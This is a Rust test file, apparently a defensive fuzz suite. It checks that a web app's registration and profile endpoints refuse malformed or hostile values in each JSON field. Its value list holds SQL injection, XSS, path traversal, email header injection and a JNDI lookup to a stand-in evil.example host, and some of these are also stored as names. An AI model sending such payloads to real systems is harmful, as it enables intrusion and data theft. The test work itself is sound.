//! Well-formed bodies with values that nobody means, in each field of each endpoint.

use serde_json::{Map, Value};

use super::{JSON, Target};
use crate::support::accounts::paths;
use crate::support::declared::of_every_type;
use crate::support::djoser;
use crate::support::endpoints::{Endpoint, Row};

/// Values no field takes, as they are written in JSON.
fn values() -> Vec<String> {
    let long = "x".repeat(60_000);
    [
        "null",
        "true",
        "[]",
        "{}",
        "[\"ann\"]",
        "[[[\"ann\"]]]",
        "{\"$ne\":null}",
        "\"\"",
        "\" \\t\\n\\u3000 \"",
        "\"\\u0000\"",
        "\"a\\u0000b\"",
        "\"\\ud800\"",
        "\"\\udfff\\ud800\"",
        "\"a\\r\\nBcc: mallory@evil.example\"",
        "\"' OR 1=1 --\"",
        "\"'; DROP TABLE users; --\"",
        "\"<script>alert(1)</script>\"",
        "\"../../../etc/passwd\"",
        "\"{{verification_url}}\"",
        "\"${jndi:ldap://evil.example/a}\"",
        "\"\\u202e\\u200b\\ufeff\"",
        "\"🏴‍☠️\"",
        "\"@\"",
        "\"NaN\"",
        "\"1e400\"",
        "\"-\"",
        "1e400",
        "-1e400",
        "1.5",
        "1e-7",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain([
        format!("\"{long}\""),
        format!("\"{}\"", "ﷺ".repeat(20_000)),
        format!("[{}1]", "1,".repeat(30_000)),
        "9".repeat(60_000),
    ])
    .collect()
}

/// Whether the endpoint may take such a value for this member, so that it is no attack.
fn is_taken(endpoint: &Endpoint, member: &str, value: &str) -> bool {
    let is_text_or_number = value.starts_with('"') || value.starts_with(|letter: char| "-0123456789".contains(letter));
    match member {
        _ if endpoint.free.contains(&member) => is_text_or_number,
        "username" => ["1e400", "-1e400", "1.5", "1e-7", "\"NaN\"", "\"1e400\"", "\"@\"", "\"-\""].contains(&value),
        "revoke_token" => value == "true",
        _ => false,
    }
}

#[tokio::test]
async fn no_value_does_harm() {
    for (target, least) in Target::both().await.into_iter().zip([1_000, 300]) {
        let mut tried = 0;
        for (row, honest) in target.taking_bodies() {
            let Value::Object(members) = honest else { panic!("an object") };
            for member in members.keys() {
                for value in values().into_iter().filter(|value| !is_taken(&row.endpoint, member, value)) {
                    refuses(&target, &row, &members, member, &value).await;
                    tried += 1;
                }
            }
        }
        assert!(tried > least, "{tried}");
        target.assert_unharmed().await;
    }
}

/// Sees that an endpoint refuses a value in one member of a body that is well-formed otherwise.
async fn refuses(target: &Target, row: &Row, members: &Map<String, Value>, member: &str, value: &str) {
    let mut body = members.clone();
    body.remove(member);
    let body = Value::Object(body).to_string().replacen('{', &format!("{{\"{member}\":{value},"), 1);
    let answer = target.attacked(row, JSON, body.replace(",}", "}")).await;
    let shown: String = value.chars().take(40).collect();
    let is_judged = row.endpoint.refuses_text_with == Some(answer.status);
    let refused_with = if is_judged { answer.status } else { row.endpoint.refuses_with };
    answer.expect_refusal(refused_with, &format!("{member}: {shown} to {row:?}"));
}

/// Whether a declared field may take such a value.
fn is_value_of(field: &str, value: &str) -> bool {
    let is_nullable = ["age", "born_on", "role"].contains(&field);
    match field {
        _ if value == "null" => is_nullable,
        "bio" => {
            ["\"\"", "\" \\t\\n\\u3000 \"", "1e400", "-1e400", "1.5", "1e-7", "\"NaN\"", "\"1e400\""].contains(&value)
                || ["\"\\u202e\\u200b\\ufeff\"", "\"🏴‍☠️\""].contains(&value)
        }
        "newsletter" => value == "true",
        _ => false,
    }
}

#[tokio::test]
async fn no_value_does_harm_in_a_declared_field() {
    let target = Target::start().await;
    let mut tried = 0;
    for (row, honest) in target.taking_bodies() {
        let takes_fields = [paths::REGISTER, paths::PROFILE, djoser::paths::USERS, djoser::paths::ME];
        if !takes_fields.contains(&row.endpoint.path) || row.endpoint.method == "DELETE" {
            continue;
        }
        for declaration in of_every_type() {
            let field = declaration.name.as_str();
            for value in values().into_iter().filter(|value| !is_value_of(field, value)) {
                let body = honest.to_string().replacen('{', &format!("{{\"{field}\":{value},"), 1).replace(",}", "}");
                let answer = target.attacked(&row, JSON, body).await;
                let shown: String = value.chars().take(40).collect();
                answer.expect_refusal(400, &format!("{field}: {shown} to {row:?}"));
                assert!(answer.json().get(field).is_some(), "{field}: {shown} to {row:?}: {}", answer.body);
                tried += 1;
            }
        }
    }
    assert!(tried > 1_000, "{tried}");
    target.assert_unharmed().await;
}

#[tokio::test]
async fn a_name_may_be_any_text_and_is_stored_as_it_is() {
    let target = Target::start().await;
    for (number, name) in [
        "'; DROP TABLE users; --",
        "<script>alert(1)</script>",
        "Ann\r\nBcc: x@evil.example",
        "{{user}}",
        "🏴‍☠️",
        "\u{202e}nna",
    ]
    .into_iter()
    .enumerate()
    {
        let other = serde_json::json!({ "first_name": name, "last_name": name });
        let profile = target.app.register(&format!("user{number}"), other).await.expect(201);
        assert_eq!((&profile["first_name"], &profile["last_name"]), (&name.into(), &name.into()));
        let user = target.app.user(profile["id"].as_str().expect("an id")).await;
        assert_eq!(user.first_name, name);
    }
    target.app.get("/readyz").await.expect(200);
}

#[tokio::test]
async fn of_a_member_sent_twice_the_last_is_judged() {
    let target = Target::start().await;
    for (body, messages) in [
        (r#"{"email":"ann@mail.example","email":null}"#, "This field may not be null."),
        (r#"{"email":"ann@mail.example","\u0065mail":[]}"#, "Enter a valid email address."),
    ] {
        let answer = target.app.post_bytes(paths::RESEND_VERIFICATION, JSON, body).await.expect(400);
        assert_eq!(answer, serde_json::json!({ "email": [messages] }));
    }
    target.assert_unharmed().await;
}
